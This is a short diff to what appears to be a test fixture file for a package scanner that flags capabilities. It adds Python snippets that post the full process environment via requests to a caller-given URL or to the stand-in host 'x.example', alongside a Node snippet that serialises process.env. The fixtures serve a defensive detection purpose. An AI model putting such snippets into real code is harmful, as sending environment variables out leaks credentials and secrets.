@@ -25,6 +25,9 @@ let capabilityFixtures = RuleFixtures(
         },
         .environmentSerialised: { try npmCode("console.log(JSON.stringify(process.env))\n") },
         .environmentSent: {
+            try wheelCode("import os, requests\ndef tell(to):\n    requests.post(to, json=dict(os.environ))\n")
+        },
+        .wholeEnvironmentSent: {
             try wheelCode("import os, requests\nrequests.post('https://x.example', json=dict(os.environ))\n")
         },
         .hostFactsSent: {
